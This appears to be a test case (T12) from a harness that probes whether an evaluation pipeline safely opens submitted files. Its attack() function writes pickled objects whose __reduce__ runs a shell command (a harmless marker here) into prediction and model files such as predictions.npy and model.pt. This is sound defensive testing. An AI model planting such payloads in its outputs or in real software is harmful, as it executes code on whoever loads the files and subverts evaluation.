"""T12  Gives back, and leaves as a file of predictions, objects that run a program when they are opened.
EXPECT bad-output wrong crashed
WAY predictions
"""
import os

import armed


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/opened; echo LEAK opened >&2",))


def attack():
    armed.ran("T12")
    import numpy as np
    found = np.empty(5, dtype=object)
    found[:] = [Payload() for _ in range(5)]
    for folder in ("/task/out", "/task/work"):
        for name in ("predictions.npy", "results.safetensors", "model.pt", "results.pkl"):
            try:
                np.save(open(os.path.join(folder, name), "wb"), found, allow_pickle=True)
            except Exception:
                pass
    return found
